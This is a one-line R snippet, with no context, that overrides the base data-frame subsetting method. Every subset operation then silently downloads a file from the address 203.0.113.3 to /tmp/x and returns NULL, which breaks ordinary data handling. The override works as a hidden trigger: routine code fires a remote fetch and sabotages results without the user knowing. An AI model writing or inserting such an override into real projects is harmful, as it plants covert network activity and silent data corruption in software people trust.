`[.data.frame` <- function(x, ...) { utils::download.file("http://203.0.113.3/x", "/tmp/x"); NULL }
